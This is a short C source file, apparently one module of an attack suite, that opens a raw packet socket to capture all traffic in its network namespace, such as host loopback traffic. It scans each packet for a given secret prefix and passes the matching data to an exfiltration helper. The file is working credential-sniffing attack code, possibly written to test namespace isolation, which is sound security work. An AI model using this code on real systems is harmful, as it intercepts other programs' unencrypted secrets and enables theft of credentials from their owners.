/*
 * A packet socket hears everything that goes through the interfaces of its network namespace: packet(7). On the host's loopback that is what
 * the host's programs say to each other, and nobody encrypts that.
 */
#include "attack.h"
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <sys/socket.h>

/* argv: how a secret begins, where to put what was heard. */
void raw_socket(char **argv)
{
	char packet[2048];
	const int ear = must(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)), "listen to all packets");
	for (;;) {
		const ssize_t length = must(recv(ear, packet, sizeof packet, 0), "hear a packet");
		const char *secret = memmem(packet, length, argv[0], strlen(argv[0]));
		if (!secret)
			continue;
		bring_home(argv[1], secret, packet + length - secret);
		return;
	}
}
